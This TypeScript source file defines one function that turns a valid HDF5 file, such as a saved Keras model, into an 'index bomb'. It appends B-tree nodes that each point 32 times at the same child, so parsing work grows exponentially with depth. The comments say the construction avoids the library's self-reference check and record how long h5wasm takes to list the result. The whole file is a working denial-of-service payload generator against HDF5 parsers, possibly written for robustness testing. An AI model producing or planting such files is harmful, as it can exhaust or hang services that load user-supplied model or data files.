/** Room for 32 entries, the most that Keras's files have in a node: a head, and a child between every two keys. */
const FAN = 32;
const NODE = 24 + 8 * (2 * FAN + 1);
const SIGNATURE = Buffer.from('TREE');
/** Where the superblock keeps the address of the end of the file. */
const END_OF_FILE = 40;

/**
 * A HDF5 file whose index of names refers to itself: `depth` levels, each with 32 times the same child, so that its few names are there
 * 32 to the power of `depth` + 1 times over. No level refers to itself or one above, which the library would see.
 *
 * @param whole a sound file in the layout of HDF5 1.8, such as Keras writes
 * @param depth 3 takes h5wasm 6 seconds to list; each further one 32 times as long
 */
export function indexBomb(whole: Uint8Array, depth: number): Uint8Array {
  const bytes = Buffer.concat([whole, Buffer.alloc(depth * NODE)]);
  // The first is the root's; its only child is a list of names.
  const root = bytes.indexOf(SIGNATURE);
  const [least, names, most] = [24, 32, 40].map((offset) => bytes.readBigUInt64LE(root + offset)) as [bigint, bigint, bigint];
  const writeNode = (at: number, level: number, child: bigint): void => {
    SIGNATURE.copy(bytes, at);
    bytes.writeUInt8(level, at + 5);
    bytes.writeUInt16LE(FAN, at + 6);
    bytes.fill(0xff, at + 8, at + 24);
    for (let entry = 0; entry < FAN; entry++) {
      bytes.writeBigUInt64LE(entry === 0 ? least : most, at + 24 + 16 * entry);
      bytes.writeBigUInt64LE(child, at + 32 + 16 * entry);
    }
    bytes.writeBigUInt64LE(most, at + 24 + 16 * FAN);
  };
  const below = (level: number): bigint => (level === 0 ? names : BigInt(whole.length + (level - 1) * NODE));
  for (let level = 0; level < depth; level++) writeNode(whole.length + level * NODE, level, below(level));
  writeNode(root, depth, below(depth));
  bytes.writeBigUInt64LE(BigInt(bytes.length), END_OF_FILE);
  return new Uint8Array(bytes);
}
